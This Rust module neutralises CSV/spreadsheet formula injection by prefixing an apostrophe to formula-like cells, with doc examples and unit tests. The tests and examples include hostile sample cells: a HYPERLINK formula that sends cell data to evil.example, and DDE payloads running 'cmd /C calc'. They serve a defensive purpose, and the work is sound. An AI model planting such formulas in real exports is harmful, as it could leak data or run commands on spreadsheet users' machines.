//! Cells written for spreadsheets: a value that a spreadsheet would run as a formula is written
//! as text instead (CSV injection, OWASP's guidance): one starting with `=`, `+`, `-`, `@`, a
//! tab or a carriage return, unless it is a plain number, gets a leading apostrophe.
//!
//! ```
//! use heat_core::cells::neutralise_formula;
//! assert_eq!(neutralise_formula("=HYPERLINK(\"http://evil.example\",\"click\")"), "'=HYPERLINK(\"http://evil.example\",\"click\")");
//! assert_eq!(neutralise_formula("-3.5"), "-3.5");
//! assert_eq!(neutralise_formula("Zoë"), "Zoë");
//! ```

use std::borrow::Cow;

/// The first control character in `value` that no value a person types has: a NUL or another
/// C0 control (tab, line feed and carriage return apart, which cells hold), or DEL. Binary data
/// pasted into a cell; every field reader and the import refuse it alike.
///
/// ```
/// use heat_core::cells::control_character;
/// assert_eq!(control_character("11\u{7f}"), Some('\u{7f}'));
/// assert_eq!(control_character("Year\n10"), None);
/// assert_eq!(control_character("Zoë\u{0}"), Some('\u{0}'));
/// ```
pub fn control_character(value: &str) -> Option<char> {
    value
        .chars()
        .find(|c| (*c < ' ' && !matches!(c, '\t' | '\n' | '\r')) || *c == '\u{7f}')
}

/// The characters that make a spreadsheet read a cell as a formula (or a DDE command), all
/// ASCII, so a cell's first byte tells.
const FORMULA_STARTS: [u8; 6] = [b'=', b'+', b'-', b'@', b'\t', b'\r'];

/// Whether a spreadsheet would treat `value` as a formula: it starts with `=`, `+`, `-`, `@`,
/// a tab or a carriage return and is not a plain number (`-3`, `+44`, `-0.5e3` stay numbers).
///
/// ```
/// use heat_core::cells::is_formula;
/// assert!(is_formula("+cmd|' /C calc'!A0"));
/// assert!(is_formula("@SUM(A1:A9)"));
/// assert!(is_formula("\t=1+1"));
/// assert!(!is_formula("-12"));
/// assert!(!is_formula("LS1 4AP"));
/// assert!(!is_formula(""));
/// ```
pub fn is_formula(value: &str) -> bool {
    match value.as_bytes().first() {
        Some(b) if FORMULA_STARTS.contains(b) => !is_plain_number(value),
        _ => false,
    }
}

/// `value` made safe to open in a spreadsheet: a formula-like value ([`is_formula`]) gets a
/// leading apostrophe, so it is shown as the text it was; anything else is returned unchanged
/// (borrowed).
///
/// ```
/// use heat_core::cells::neutralise_formula;
/// assert_eq!(neutralise_formula("@SUM(1,2)"), "'@SUM(1,2)");
/// assert_eq!(neutralise_formula("+44"), "+44");
/// assert!(matches!(neutralise_formula("Ann"), std::borrow::Cow::Borrowed(_)));
/// ```
pub fn neutralise_formula(value: &str) -> Cow<'_, str> {
    if is_formula(value) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// A whole record made safe ([`neutralise_formula`] on every cell), with how many cells changed.
///
/// ```
/// use heat_core::cells::neutralise_record;
/// let (cells, changed) = neutralise_record(["Ann", "=1+1", "-2"]);
/// assert_eq!(cells, ["Ann", "'=1+1", "-2"]);
/// assert_eq!(changed, 1);
/// ```
pub fn neutralise_record<'a, I>(record: I) -> (Vec<Cow<'a, str>>, usize)
where
    I: IntoIterator<Item = &'a str>,
{
    let cells: Vec<Cow<'a, str>> = record.into_iter().map(neutralise_formula).collect();
    let changed = cells.iter().filter(|c| matches!(c, Cow::Owned(_))).count();
    (cells, changed)
}

/// A plain decimal number, optionally signed, with an optional exponent (what a spreadsheet
/// reads as a number, never as a formula). `inf` and `nan` are not numbers here.
fn is_plain_number(value: &str) -> bool {
    let digits = value.strip_prefix(['+', '-']).unwrap_or(value);
    digits
        .chars()
        .next()
        .is_some_and(|c| c.is_ascii_digit() || c == '.')
        && digits
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, '.' | 'e' | 'E' | '+' | '-'))
        && value.parse::<f64>().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_owasp_examples_and_numbers() {
        for bad in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "@SUM(A1:A2)",
            "-2+3+cmd|' /C calc'!A0",
            "=1+2",
            "\t=1",
            "\r=1",
            "-",
            "+",
            "--1",
            "-inf",
            "-NaN",
        ] {
            assert!(is_formula(bad), "{bad:?}");
            assert_eq!(neutralise_formula(bad), format!("'{bad}"));
        }
        for fine in [
            "-1", "+44", "-0.5", "-.5", "+1e3", "-2E-2", "12", "Ann", "", " =1", "O'Neil",
        ] {
            assert!(!is_formula(fine), "{fine:?}");
            assert_eq!(neutralise_formula(fine), fine);
        }
    }
}
